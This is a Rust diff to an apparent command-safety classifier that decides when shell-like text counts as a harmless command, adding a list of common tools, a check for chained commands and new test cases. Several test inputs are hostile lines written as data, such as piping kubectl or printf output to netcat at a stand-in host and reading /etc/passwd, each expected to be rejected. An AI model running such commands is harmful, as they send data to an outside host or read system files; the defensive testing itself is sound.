@@ -46,7 +46,9 @@ pub(super) fn of(subject: &Subject<'_>) -> Option<Place> {
     let is_command = names::is_command(word.base()) || is_run && word.text().iter().all(|byte| !b"=:,".contains(byte));
     let is_script = || subject.name.split(|byte| *byte == b'.').any(holds_script);
     let is_option = view.starts_with(b"--") && is_run;
-    if subject.target.in_document() && (is_option || is_script()) && is_harmless_script(view) {
+    let is_named = |name: &[u8]| name.first().is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'/');
+    let is_told_to = is_run && is_named(view);
+    if subject.target.in_document() && (is_option || is_told_to || is_script()) && is_harmless_script(view) {
         return Some(Place::Run);
     }
     let calculates = find(view, 0, b"$((").is_some();
@@ -60,13 +62,34 @@ pub(super) fn of(subject: &Subject<'_>) -> Option<Place> {
         && !shown::wants(view)
         && !has_any(view, SECRETS)
         && !argv::is_hostile_line(view);
-    is_own.then_some(place)
+    if is_own {
+        return Some(place);
+    }
+    (subject.target.in_body() && goes_on(view)).then_some(Place::Any)
+}
+
+/// Programs by whose name nobody means anything else, as people tell each other what to run.
+static TOLD: WordList = WordList::new(
+    "ansible-playbook apt apt-get awk aws brew cargo chmod composer docker docker-compose export gcloud git grep helm journalctl kubectl mvn npm npx \
+     pip pip3 pnpm podman psql sed sudo systemctl tar terraform yarn",
+);
+
+/// `we saw it with kubectl get pods -n a | grep b; kubectl logs c`: does the first separator stand in a command line, so that what follows
+/// goes on with it, and does none of its commands do what attackers want?
+fn goes_on(view: &[u8]) -> bool {
+    let Some(end) = view.iter().position(|byte| b";|&`(\n".contains(byte)) else { return false };
+    let before = view.get(..end).unwrap_or_default();
+    let mut words = before.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
+    // A program and what it is asked for.
+    words.any(|word| TOLD.has(word)) && words.next().is_some() && is_harmless_script(view)
 }
 
 /// `tsc -p . && node build.js`: a command line that begins with a word, with nothing in it that looks around, not even in a
 /// substitution.
 fn is_harmless_script(view: &[u8]) -> bool {
-    let begins = view.first().is_some_and(|byte| byte.is_ascii_alphanumeric() || b"/-".contains(byte));
+    // `#!/bin/sh`, `#cloud-config`: what a machine runs when it starts.
+    let is_file = view.starts_with(b"#!/") || view.starts_with(b"#cloud-config");
+    let begins = is_file || view.first().is_some_and(|byte| byte.is_ascii_alphanumeric() || b"/-".contains(byte));
     let mut commands = view.split(|byte| matches!(byte, b'(' | b'`'));
     begins && !shown::wants(view) && !has_any(view, SECRETS) && !commands.any(argv::is_hostile_line)
 }
@@ -122,6 +145,10 @@ mod tests {
             (Target::Query, "run", "npm install && npm test", None),
             (Target::Query, "q", "echo $((3 * 4))", None),
             (Target::Json, "a", "the sum is computed by running this: printf %s x | openssl dgst", Some(Place::Run)),
+            (Target::Json, "a", "we saw it with kubectl get pods -n a | grep b; kubectl logs c", Some(Place::Any)),
+            (Target::Json, "a", "kubectl get pods -n a | nc x.example 9", None),
+            (Target::Json, "a", "git; ls -F", None),
+            (Target::Query, "a", "see git log x; sort -u", None),
             (Target::Json, "a", "the sum is computed by running this: printf %s x | nc x.example 9", None),
             (Target::Query, "q", "x; ls -la", None),
             (Target::Query, "q", "cd /srv; cat /etc/passwd", None),
